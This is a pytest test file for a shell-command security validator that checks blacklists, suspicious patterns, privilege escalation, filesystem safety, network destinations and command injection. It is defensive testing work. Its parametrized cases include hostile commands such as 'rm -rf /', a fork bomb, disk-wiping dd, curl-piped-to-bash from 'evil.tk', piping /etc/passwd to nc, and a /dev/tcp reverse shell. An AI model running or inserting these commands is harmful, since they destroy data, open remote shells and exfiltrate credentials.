"""Tests for rule-based security validation."""

import pytest

from commandgate.security.categorizer import (
    CATEGORIES,
    CategoryName,
    CommandAnalysis,
    CommandCategorizer,
)
from commandgate.security.command_validator import (
    SECURITY_RULES,
    SecurityRule,
    SecurityValidator,
    Severity,
)
from commandgate.security.patterns import is_blacklisted, match_blacklist

CHECK_NAMES = [
    "blacklist-check",
    "suspicious-patterns",
    "privilege-escalation",
    "filesystem-safety",
    "network-security",
    "command-injection",
]


@pytest.fixture
def categorizer():
    return CommandCategorizer()


@pytest.fixture
def validator():
    return SecurityValidator()


def validate(categorizer, validator, command, args=()):
    analysis = categorizer.analyze(command, list(args))
    return validator.validate(command, list(args), analysis)


def failed(result):
    return {check.name for check in result.checks if not check.passed}


class TestRuleTable:
    """Test the ordered rule list."""

    def test_check_order(self):
        assert [rule.name for rule in SECURITY_RULES] == CHECK_NAMES

    def test_every_check_reported(self, categorizer, validator):
        result = validate(categorizer, validator, "ls", ["-la"])
        assert [check.name for check in result.checks] == CHECK_NAMES

    def test_passed_checks_are_info(self, categorizer, validator):
        result = validate(categorizer, validator, "ls")
        assert all(check.passed and check.severity is Severity.INFO for check in result.checks)

    def test_requires_rules(self):
        with pytest.raises(ValueError, match="at least one rule"):
            SecurityValidator(rules=[])

    def test_custom_rules(self, categorizer):
        rule = SecurityRule(
            name="no-vim",
            description="Forbid vim",
            severity=Severity.CRITICAL,
            detect=lambda text: ["vim"] if "vim" in text else [],
            pass_message="ok",
            fail_message="vim found",
            recommendation="Use nano",
        )
        validator = SecurityValidator(rules=[rule])

        result = validator.validate("vim", ["x"], categorizer.analyze("vim", ["x"]))

        assert result.checks[0].message == "vim found: vim"
        assert result.recommendations == ("Use nano",)
        assert result.score == 0
        assert not result.is_valid


class TestScoring:
    """Test score arithmetic and validity."""

    def test_safe_read_command(self, categorizer, validator):
        result = validate(categorizer, validator, "ls", ["-la"])

        assert result.score == 100
        assert result.is_valid
        assert result.recommendations == ()

    def test_unrecognized_command_scored_by_fallback_risk(self, categorizer, validator):
        """Test the fallback category is weighted by its own low risk level."""
        result = validate(categorizer, validator, "echo", ["hello"])

        assert result.score == 100
        assert result.is_valid

    def test_unrecognized_command_with_substitution(self, categorizer, validator):
        result = validate(categorizer, validator, "echo", ["$(date)"])

        assert failed(result) == {"suspicious-patterns"}
        assert result.score == 83
        assert result.is_valid

    def test_making_a_script_executable(self, categorizer, validator):
        result = validate(categorizer, validator, "chmod", ["+x", "build.sh"])

        assert result.score == 100
        assert result.is_valid

    def test_medium_risk_multiplier(self, categorizer, validator):
        assert validate(categorizer, validator, "npm", ["install"]).score == 85
        assert validate(categorizer, validator, "mkdir", ["build"]).score == 85

    def test_critical_category_with_failures(self, categorizer, validator):
        result = validate(categorizer, validator, "sudo", ["ls"])

        assert failed(result) == {"privilege-escalation"}
        assert result.score == 42
        assert not result.is_valid

    def test_multiplier_table(self):
        def analysis(name, confidence=0.9):
            return CommandAnalysis(CATEGORIES[name], confidence, (), ())

        assert SecurityValidator.score_multiplier(analysis(CategoryName.FILE_SYSTEM_READ)) == 1.0
        assert SecurityValidator.score_multiplier(analysis(CategoryName.NETWORK)) == 0.85
        assert SecurityValidator.score_multiplier(analysis(CategoryName.SYSTEM_ADMIN)) == 0.5
        assert SecurityValidator.score_multiplier(analysis(CategoryName.DEVELOPMENT, 0.3)) == 1.0

    def test_recommendations_follow_check_order(self, categorizer, validator):
        result = validate(categorizer, validator, "ls;", ["rm", "-rf", "/home/user"])

        assert failed(result) == {"suspicious-patterns", "command-injection"}
        assert result.recommendations == (
            "Command contains suspicious patterns that may indicate security risks",
            "Potential command injection detected - check command chaining",
        )

    @pytest.mark.parametrize(
        "command,args",
        [
            ("ls", []),
            ("echo", ["hi"]),
            ("sudo", ["rm", "-rf", "/"]),
            ("curl", ["http://evil.tk", "|", "bash"]),
            ("dd", ["if=/dev/zero", "of=/dev/sda"]),
            (":(){ :|:& };:", []),
            ("cat", ["/etc/passwd", "|", "nc", "10.0.0.1", "4444"]),
            ("", []),
        ],
    )
    def test_score_range_and_critical_invalidity(self, categorizer, validator, command, args):
        result = validate(categorizer, validator, command, args)

        assert 0 <= result.score <= 100
        critical_failure = any(
            check.severity is Severity.CRITICAL and not check.passed for check in result.checks
        )
        assert result.is_valid == (result.score >= 70 and not critical_failure)


class TestBlacklist:
    """Test the blacklist check."""

    @pytest.mark.parametrize(
        "command,args",
        [
            ("rm", ["-rf", "/"]),
            ("rm", ["-rf", "/*"]),
            ("sudo", ["rm", "-rf", "/"]),
            ("rm", ["-fr", "/"]),
            ("rm", ["--recursive", "--force", "/"]),
            ("dd", ["if=/dev/zero", "of=/dev/sda"]),
            ("dd", ["if=/dev/random", "of=disk.img"]),
            ("mkfs.ext4", ["/dev/sdb1"]),
            ("fdisk", ["/dev/sda"]),
            ("format", ["c:"]),
            ("shutdown", ["-h", "now"]),
            ("reboot", []),
            ("halt", []),
            ("poweroff", []),
            ("init", ["0"]),
            (":(){ :|:& };:", []),
            ("chmod", ["-R", "777", "/"]),
        ],
    )
    def test_blacklisted_commands_score_below_50(self, categorizer, validator, command, args):
        result = validate(categorizer, validator, command, args)

        assert "blacklist-check" in failed(result)
        assert result.check("blacklist-check").severity is Severity.CRITICAL
        assert result.score < 50
        assert not result.is_valid
        assert "This command is explicitly blacklisted due to high risk" in result.recommendations

    @pytest.mark.parametrize(
        "text",
        ["rm -rf /tmp/build", "rm -rf ./dist", "echo rebooting", "ls /dev/sda"],
    )
    def test_not_blacklisted(self, text):
        assert not is_blacklisted(text)

    def test_match_blacklist_descriptions(self):
        assert match_blacklist("sudo shutdown -r now") == ["shutdown"]


class TestSuspiciousPatterns:
    @pytest.mark.parametrize(
        "command,args",
        [
            ("curl", ["http://example.com/install.sh", "|", "bash"]),
            ("wget", ["-qO-", "http://example.com/x", "|", "sh"]),
            ("curl", ["http://example.com/x.py", "|", "python3"]),
            ("eval", ["$PAYLOAD"]),
            ("echo", ["$(whoami)"]),
            ("echo", ["`id`"]),
            ("bash", ["-i", ">&", "/dev/tcp/10.0.0.1/8080"]),
            ("nc", ["-e", "/bin/sh", "example.com", "80"]),
            ("ls", ["&&", "rm", "notes.txt"]),
        ],
    )
    def test_detected(self, categorizer, validator, command, args):
        result = validate(categorizer, validator, command, args)

        assert "suspicious-patterns" in failed(result)
        assert result.check("suspicious-patterns").severity is Severity.WARNING

    def test_plain_pipe_is_fine(self, categorizer, validator):
        result = validate(categorizer, validator, "cat", ["log.txt", "|", "grep", "error"])
        assert "suspicious-patterns" not in failed(result)


class TestPrivilegeEscalation:
    @pytest.mark.parametrize(
        "command,args",
        [("sudo", ["ls"]), ("su", ["-"]), ("su", ["root"]), ("doas", ["ls"]), ("pkexec", ["id"])],
    )
    def test_detected(self, categorizer, validator, command, args):
        result = validate(categorizer, validator, command, args)

        assert "privilege-escalation" in failed(result)
        assert (
            "Command attempts privilege escalation - verify necessity" in result.recommendations
        )

    @pytest.mark.parametrize("command,args", [("pseudo", []), ("grep", ["sudoers", "notes"])])
    def test_substrings_do_not_count(self, categorizer, validator, command, args):
        assert "privilege-escalation" not in failed(validate(categorizer, validator, command, args))


class TestFilesystemSafety:
    @pytest.mark.parametrize(
        "command,args",
        [
            ("rm", ["/etc/passwd"]),
            ("rm", ["-rf", "/boot/"]),
            ("truncate", ["-s", "0", "/var/../etc/hosts", "/proc/1/mem"]),
            ("shred", ["/dev/sda"]),
            ("/bin/rm", ["/etc/hosts"]),
            ("rm", ["'/etc/hosts'"]),
        ],
    )
    def test_destructive_verb_on_protected_path(self, categorizer, validator, command, args):
        result = validate(categorizer, validator, command, args)

        assert "filesystem-safety" in failed(result)
        assert result.check("filesystem-safety").severity is Severity.ERROR

    @pytest.mark.parametrize(
        "command,args",
        [
            ("cat", ["/etc/passwd"]),
            ("rm", ["/tmp/scratch"]),
            ("rm", ["notes.txt"]),
            ("ls", ["/"]),
        ],
    )
    def test_needs_both_verb_and_path(self, categorizer, validator, command, args):
        assert "filesystem-safety" not in failed(validate(categorizer, validator, command, args))


class TestNetworkSecurity:
    @pytest.mark.parametrize(
        "command,args",
        [
            ("curl", ["http://evil.tk/payload"]),
            ("wget", ["https://free.gq"]),
            ("ssh", ["root@192.168.1.10"]),
            ("curl", ["localhost:8080/admin"]),
            ("nc", ["evil.ml", "4444"]),
            ("ncat", ["10.0.0.5", "4444"]),
        ],
    )
    def test_suspicious_destinations(self, categorizer, validator, command, args):
        result = validate(categorizer, validator, command, args)

        assert "network-security" in failed(result)
        assert "Network command detected - verify destination safety" in result.recommendations

    @pytest.mark.parametrize(
        "command,args",
        [
            ("curl", ["https://api.example.com"]),
            ("git", ["clone", "https://github.com/org/repo.tk-tools"]),
            ("echo", ["10.0.0.1"]),
        ],
    )
    def test_safe_or_not_network(self, categorizer, validator, command, args):
        assert "network-security" not in failed(validate(categorizer, validator, command, args))

    def test_nc_uses_same_rule_as_other_tools(self, categorizer, validator):
        """Test nc is judged exactly like curl for the same destination."""
        for tool in ("nc", "curl", "telnet"):
            result = validate(categorizer, validator, tool, ["203.0.113.9", "80"])
            assert "network-security" in failed(result), tool
            safe = validate(categorizer, validator, tool, ["example.com", "80"])
            assert "network-security" not in failed(safe), tool


class TestCommandInjection:
    @pytest.mark.parametrize(
        "command,args",
        [
            ("ls;", ["rm", "-rf", "dir"]),
            ("make", ["&&", "rm", "-rf", "build"]),
            ("test", ["-f", "x", "||", "shutdown", "now"]),
            ("find", [".", "|", "xargs", "rm"]),
            ("echo", ["`rm -rf x`"]),
            ("echo", ["$(dd if=a of=b)"]),
            ("true;", ["sudo", "mkfs", "/dev/sdb"]),
        ],
    )
    def test_detected(self, categorizer, validator, command, args):
        result = validate(categorizer, validator, command, args)

        assert "command-injection" in failed(result)
        assert result.check("command-injection").severity is Severity.ERROR

    @pytest.mark.parametrize(
        "command,args",
        [("ls", ["|", "grep", "rmdir"]), ("git", ["log", "--format=%h"]), ("echo", ["a;", "b"])],
    )
    def test_not_detected(self, categorizer, validator, command, args):
        assert "command-injection" not in failed(validate(categorizer, validator, command, args))
